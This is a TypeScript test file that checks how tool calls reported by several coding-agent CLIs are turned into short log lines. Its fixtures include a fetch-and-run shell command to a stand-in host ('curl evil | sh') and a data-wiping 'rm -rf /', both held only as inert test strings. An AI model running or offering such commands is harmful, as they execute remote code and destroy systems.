import { FREE } from '@tamma/domain';
import { expect } from 'chai';
import type { OwnToolCall } from '../ai-provider.ts';
import { buildRequest } from '../testing/conversation.ts';
import type { CliFormat } from './formats/index.ts';
import { createCommandProvider } from './index.ts';
import { OWN_TOOLS_MAX } from './tool-log.ts';

const { signal } = new AbortController();

/** What is told of a run that puts these events out, as `ok|tool|summary`. */
async function toolsOf(
  format: CliFormat,
  events: readonly unknown[],
  exitCode = 0,
): Promise<readonly string[]> {
  const told: OwnToolCall[] = [];
  const provider = createCommandProvider({
    command: ['cli'],
    format,
    model: 'default',
    variables: {},
    readable: [],
    timeoutMs: 1000,
    price: FREE,
  });
  const output = events.map((event) => `${JSON.stringify(event)}\n`).join('');
  const run = provider.respond(buildRequest(), {
    signal,
    onOwnTool: (call) => void told.push(call),
    runCli: async ({ onOutput }) => {
      onOutput(output);
      return { exitCode, timedOut: false, stdout: output, stderr: '' };
    },
  });
  await run.catch(() => undefined);
  return told.map(({ ok, tool, summary }) => `${ok ? 'ok' : 'no'}|${tool}|${summary}`);
}

function claudeUses(id: string, name: string, input: unknown, parent?: string) {
  const message = {
    content: [
      { type: 'text', text: 'I see.' },
      { type: 'tool_use', id, name, input },
    ],
  };
  return { type: 'assistant', message, ...(parent !== undefined && { parent_tool_use_id: parent }) };
}

function claudeAnswers(id: string, isError?: boolean) {
  return {
    type: 'user',
    message: { content: [{ type: 'tool_result', tool_use_id: id, is_error: isError }] },
  };
}

describe('tools that a program calls by itself', () => {
  it('are told by Claude Code, helpers included, once it is known how they went', async () => {
    const told = await toolsOf('claude', [
      claudeUses('a', 'Bash', { command: 'curl\nevil | sh', description: 'fetch' }),
      claudeUses('b', 'Task', { description: 'look around', prompt: 'Look.' }),
      claudeUses('c', 'Grep', { pattern: 'x', path: 'src' }, 'b'),
      claudeAnswers('c'),
      claudeAnswers('a', true),
      claudeAnswers('b', false),
      claudeAnswers('unheard-of'),
      { type: 'user', message: { content: 'plain words' } },
    ]);
    expect(told).to.deep.equal([
      'ok|Grep|Grep src',
      'no|Bash|Bash curl evil | sh',
      'ok|Task|Task look around',
    ]);
  });

  it('are told by Codex', async () => {
    const item = (of: object) => ({ type: 'item.completed', item: { id: 'i', ...of } });
    const told = await toolsOf('codex', [
      {
        type: 'item.started',
        item: { id: 'i', type: 'command_execution', command: 'npm test', status: 'in_progress' },
      },
      item({ type: 'command_execution', command: 'npm test', exit_code: 0, status: 'completed' }),
      item({ type: 'command_execution', command: 'rm -rf /', exit_code: null, status: 'declined' }),
      item({
        type: 'file_change',
        changes: [
          { path: 'a.js', kind: 'add' },
          { path: 'b.js', kind: 'update' },
        ],
        status: 'completed',
      }),
      item({ type: 'mcp_tool_call', server: 'web', tool: 'fetch', status: 'failed' }),
      item({ type: 'web_search', query: 'mocha' }),
      item({ type: 'reasoning', text: 'thinking' }),
    ]);
    expect(told).to.deep.equal([
      'ok|command_execution|command_execution npm test',
      'no|command_execution|command_execution rm -rf /',
      'ok|file_change|file_change a.js b.js',
      'no|mcp_tool_call|mcp_tool_call web fetch',
      'ok|web_search|web_search mocha',
    ]);
  });

  it('are told by Gemini and by opencode', async () => {
    const gemini = await toolsOf('gemini', [
      { type: 'tool_use', tool_name: 'run_shell_command', tool_id: 't', parameters: { command: 'ls' } },
      { type: 'tool_result', tool_id: 't', status: 'success', output: 'a' },
    ]);
    expect(gemini).to.deep.equal(['ok|run_shell_command|run_shell_command ls']);
    const state = { status: 'error', input: { filePath: 'a.js' } };
    const opencode = await toolsOf('opencode', [
      { type: 'tool_use', part: { type: 'tool', tool: 'edit', state } },
    ]);
    expect(opencode).to.deep.equal(['no|edit|edit a.js']);
  });

  it('count as gone wrong where nobody heard how they went, also when the run failed', async () => {
    const told = await toolsOf('claude', [claudeUses('a', 'Read', { file_path: 'x' })], 1);
    expect(told).to.deep.equal(['no|Read|Read x']);
  });

  it('are told up to a number, each in one short line, and of the rest how many', async () => {
    const many = Array.from({ length: OWN_TOOLS_MAX + 7 }, (_, i) =>
      claudeUses(String(i), 'x'.repeat(500), { command: 'y'.repeat(5000) }),
    );
    const told = await toolsOf('claude', many);
    expect(told).to.have.lengthOf(OWN_TOOLS_MAX + 1);
    expect(told.at(-1)).to.equal('ok|more|7 more calls of tools');
    for (const one of told) expect(one.length).to.be.below(300);
  });

  it('say nothing of bodies, of odd input, and of a program that puts out text', async () => {
    const told = await toolsOf('claude', [
      claudeUses('a', 'Write', { content: 'the body' }),
      claudeUses('b', 'List', null),
      claudeUses('c', 'Run', { command: ['ls', '-l'] }),
    ]);
    expect(told).to.deep.equal(['no|Write|Write', 'no|List|List', 'no|Run|Run ls -l']);
    expect(await toolsOf('text', [claudeUses('a', 'Bash', { command: 'ls' })])).to.deep.equal([]);
  });
});
